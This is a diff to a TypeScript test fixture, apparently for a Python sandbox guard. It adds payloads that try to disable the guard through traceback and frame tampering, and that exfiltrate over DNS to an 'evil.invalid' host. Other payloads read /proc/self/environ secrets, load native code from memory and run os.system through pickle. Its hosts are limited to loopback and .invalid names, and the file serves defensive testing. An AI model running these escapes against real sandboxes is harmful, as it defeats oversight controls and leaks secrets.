@@ -11,6 +11,7 @@ export interface Attack {
 
 const INJECTED = { id: "1' OR '1'='1" };
 const postgres = 'data = statement.encode() + b"\\0"\ns = socket.create_connection(("127.0.0.1", PORT))\ns.sendall(b"Q" + (len(data) + 4).to_bytes(4, "big") + data)\nreturn "sent"';
+const CAUGHT = 'import os\ntry: os.system("true")\nexcept OSError as error:\n  caught, t = error, error.__traceback__\n';
 
 /** By name. Loopback and names that end in .invalid only. */
 export const ATTACKS: Record<string, Attack> = {
@@ -84,4 +85,48 @@ export const ATTACKS: Record<string, Attack> = {
   'a card in two parts of a body without a length': { kind: 'data-egress', body: 'import http.client\nc = http.client.HTTPConnection("127.0.0.1", OUTSIDE)\nc.request("POST", "/", iter([b"card=4111111", b"111111111 "]), encode_chunked=True)\nreturn c.getresponse().status' },
   'a card by asyncio': { kind: 'data-egress', body: 'import asyncio\nasync def go():\n  r, w = await asyncio.open_connection("localhost", OUTSIDE)\n  w.write(b"POST / HTTP/1.0\\r\\ncontent-length: 21\\r\\n\\r\\ncard=4111111111111111")\n  return (await r.readline()).decode()\nreturn asyncio.run(go())' },
   'a shell with an input': { kind: 'shell-injection', event: { name: 'x; true' }, openings: { programs: ['sh', 'echo'] }, body: 'import subprocess\nreturn subprocess.run("echo " + event["name"], shell=True, capture_output=True, text=True).stdout' },
+  // what an error of the guard leads to
+  'the hook by a traceback': { kind: 'child-process', body: `${CAUGHT}while t:\n  find = t.tb_frame.f_locals.get("find")\n  if find: find.__self__.clear()\n  t = t.tb_next\nreturn os.system("true")` },
+  'the switch of the guard by a traceback': { kind: 'child-process', body: `${CAUGHT}while t:\n  for held in list(t.tb_frame.f_locals.values()):\n    for cell in getattr(held, "__closure__", None) or ():\n      if cell.cell_contents is True: cell.cell_contents = False\n  t = t.tb_next\nreturn os.system("true")` },
+  'the code of a check by a traceback': { kind: 'child-process', body: `${CAUGHT}while t:\n  check = t.tb_frame.f_locals.get("check")\n  if check: check.__code__ = (lambda arguments: None).__code__\n  t = t.tb_next\nreturn os.system("true")` },
+  'the switch of the guard by a frame': { kind: 'child-process', body: 'import os, sys\nf = sys._getframe()\nwhile f:\n  guard = f.f_locals.get("guard")\n  for cell in guard.deny.__closure__ if guard else ():\n    if cell.cell_contents is True: cell.cell_contents = False\n  f = f.f_back\nreturn os.system("true")' },
+  'its policy by a frame': { kind: 'code-injection', event: { formula: '__import__("os").getpid()' }, body: 'import sys\nf = sys._getframe()\nwhile f:\n  guard = f.f_locals.get("guard")\n  if guard: object.__setattr__(guard.policy, "code", True)\n  f = f.f_back\nreturn eval(event["formula"])' },
+  'its error replaced': { kind: 'child-process', body: `${CAUGHT}def init(self, *_):\n  f = sys._getframe(1)\n  while f:\n    if "blocks" in f.f_locals: f.f_locals["blocks"] = False\n    f = f.f_back\nimport sys\ntype(caught).__init__ = init\ntry: os.system("true")\nexcept OSError: pass\nreturn os.system("true")` },
+  'a call under a replaced one': { kind: 'child-process', body: 'import _posixsubprocess, os\noriginal = [c.cell_contents for c in _posixsubprocess.fork_exec.__closure__ if type(c.cell_contents).__name__ == "builtin_function_or_method"]\nif not original: return os.system("true")\nreturn "found"' },
+  'answers of DNS that were none': { kind: 'egress', body: 'import socket, _socket\nfor cell in _socket.getaddrinfo.__closure__:\n  try: cell.cell_contents("localhost", ["127.0.0.2"])\n  except TypeError: pass\nsocket.create_connection(("127.0.0.2", PORT), 1)\nreturn "connected"' },
+  'references by gc': { kind: 'tampering', body: 'import gc\nreturn len(gc.get_referents(handler))' },
+  'a trace function': { kind: 'tampering', body: 'import sys\nsys.settrace(lambda *_: None)\nreturn "set"' },
+  'a profile function': { kind: 'tampering', body: 'import sys\nsys.setprofile(lambda *_: None)\nreturn "set"' },
+  'a callback of sys.monitoring': { kind: 'tampering', body: 'import sys\nsys.monitoring.use_tool_id(3, "x")\nsys.monitoring.register_callback(3, sys.monitoring.events.CALL, print)\nreturn "set"' },
+  // names, files and native code by other ways
+  'DNS by connecting to a name': { kind: 'dns', body: 'import socket\nsocket.socket().connect(("c2VjcmV0.evil.invalid", 443))' },
+  'DNS by a datagram to a name': { kind: 'dns', body: 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("c2VjcmV0.evil.invalid", 53))\nreturn "sent"' },
+  'netlink': { kind: 'egress-socket', body: 'import socket\nsocket.socket(16, socket.SOCK_RAW, 0)\nreturn "open"' },
+  'an abstract socket of this machine': { kind: 'egress-socket', body: 'import socket\nsocket.socket(socket.AF_UNIX).connect("\\0x")' },
+  'a socket by its descriptor': { kind: 'egress', body: 'import os, socket\nsocket.socket(fileno=os.dup(socket.socket().detach())).connect(("127.0.0.2", 9))' },
+  'TLS in memory': { kind: 'egress', body: 'import socket, ssl\ni, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nt = ssl.create_default_context().wrap_bio(i, o, server_hostname="x.invalid")\ntry: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\nsocket.create_connection(("127.0.0.2", 9), 1).sendall(o.read())' },
+  'http.client to an address': { kind: 'egress', body: 'import http.client\nhttp.client.HTTPConnection("127.0.0.2", 9, timeout=1).request("GET", "/")' },
+  'a file: URL': { kind: 'file-secret', error: 'URLError', body: 'import urllib.request\nreturn urllib.request.urlopen("file:///proc/self/environ").read(5).decode()' },
+  'environ by an opener': { kind: 'file-secret', body: 'import os\nreturn open("x", opener=lambda _, flags: os.open("/proc/self/environ", flags)).read(5)' },
+  'environ by the path of a descriptor': { kind: 'file-secret', body: 'import os\nd = os.open("/proc/self", os.O_RDONLY)\nreturn open(f"/proc/self/fd/{d}/environ").read(5)' },
+  'environ by a thread of the process': { kind: 'file-secret', body: 'import os\nreturn open(f"/proc/self/task/{os.getpid()}/environ").read(5)' },
+  'environ by a text that lies': { kind: 'file-secret', body: 'class Path(str):\n  def __fspath__(self): return "/dev/null"\n  def __str__(self): return "/dev/null"\nreturn open(Path("/proc/self/environ")).read(5)' },
+  'memory to be mapped': { kind: 'file-secret', body: 'import mmap, os\nreturn mmap.mmap(os.open("/proc/self/mem", os.O_RDWR), 1)[0]' },
+  'a named pipe outside of /tmp': { kind: 'file-write', body: 'import os\nos.mkfifo("/proc/zt")' },
+  'a node outside of /tmp': { kind: 'file-write', body: 'import posix\nposix.mknod("/proc/zt")' },
+  'a database that a statement attaches': { kind: 'file-write', body: 'return sqlite3.connect(":memory:").execute("ATTACH DATABASE \'/proc/zt.db\' AS x").fetchall()' },
+  'a database that a statement copies': { kind: 'file-write', body: 'return sqlite3.connect(":memory:").executescript("VACUUM INTO \'/proc/zt.db\'")' },
+  'a module that was written to /tmp': { kind: 'code-from-string', body: 'import os, sys, tempfile\nd = tempfile.mkdtemp()\nopen(d + "/zt_fetched.py", "w").write("X = 1")\nsys.path.insert(0, d)\nimport zt_fetched\nreturn zt_fetched.X' },
+  'a module in a ZIP in /tmp': { kind: 'code-from-string', body: 'import sys, tempfile, zipfile\np = tempfile.mkdtemp() + "/x.zip"\nwith zipfile.ZipFile(p, "w") as z: z.writestr("zt_zipped.py", "X = 1")\nsys.path.insert(0, p)\nimport zt_zipped\nreturn zt_zipped.X' },
+  'bytecode in /tmp': { kind: 'code-from-string', body: 'import importlib.util, marshal, sys, tempfile\nd = tempfile.mkdtemp()\nopen(d + "/zt_bytes.pyc", "wb").write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("X = 1", "x", "exec")))\nsys.path.insert(0, d)\nimport zt_bytes\nreturn zt_bytes.X' },
+  'a script in /tmp': { kind: 'code-from-string', body: 'import runpy, tempfile\np = tempfile.mkdtemp() + "/x.py"\nopen(p, "w").write("X = 1")\nreturn runpy.run_path(p)["X"]' },
+  'a native module in /tmp by dots': { kind: 'native-code', body: 'import _imp, importlib.machinery, importlib.util, shutil, sys, tempfile\np = tempfile.mkdtemp() + "/_ssl.so"\nshutil.copyfile(importlib.util.find_spec("_ssl").origin, p)\n_imp.create_dynamic(importlib.machinery.ModuleSpec("_ssl", None, origin=sys.prefix + "/.." * 12 + p))\nreturn "loaded"' },
+  'a native module in memory': { kind: 'native-code', body: 'import _imp, importlib.machinery, importlib.util, os\nfd = os.memfd_create("x")\nos.write(fd, open(importlib.util.find_spec("_ssl").origin, "rb").read())\n_imp.create_dynamic(importlib.machinery.ModuleSpec("_ssl", None, origin=f"/proc/self/fd/{fd}"))\nreturn "loaded"' },
+  'a library in /tmp by dots': { kind: 'native-code', body: 'import ctypes, importlib.util, shutil, sys, tempfile\np = tempfile.mkdtemp() + "/x.so"\nshutil.copyfile(importlib.util.find_spec("_ssl").origin, p)\nctypes.CDLL(sys.prefix + "/.." * 12 + p)\nreturn "loaded"' },
+  'memory by memmove': { kind: 'native-code', body: 'import ctypes\nb = ctypes.create_string_buffer(4)\nctypes.memmove(b, id(1), 4)\nreturn b.raw.hex()' },
+  'an object of an address': { kind: 'native-code', body: 'import ctypes\nreturn ctypes.cast(id(1), ctypes.py_object).value' },
+  'a process of multiprocessing': { kind: 'child-process', body: 'import multiprocessing\np = multiprocessing.get_context("fork").Process(target=print)\np.start()\np.join()\nreturn "ran"' },
+  'a process by asyncio': { kind: 'child-process', body: 'import asyncio\nasync def go(): return await (await asyncio.create_subprocess_exec("/bin/true")).wait()\nreturn asyncio.run(go())' },
+  'a program in memory': { kind: 'child-process', body: 'import os\nfd = os.memfd_create("x")\nos.execve(fd, ["true"], {})' },
+  'a pickle of a class of its own': { kind: 'code-injection', body: 'import pickle\nclass Order:\n  def __reduce__(self): return (__import__("os").system, ("true",))\nreturn pickle.loads(pickle.dumps(Order()))' },
 };
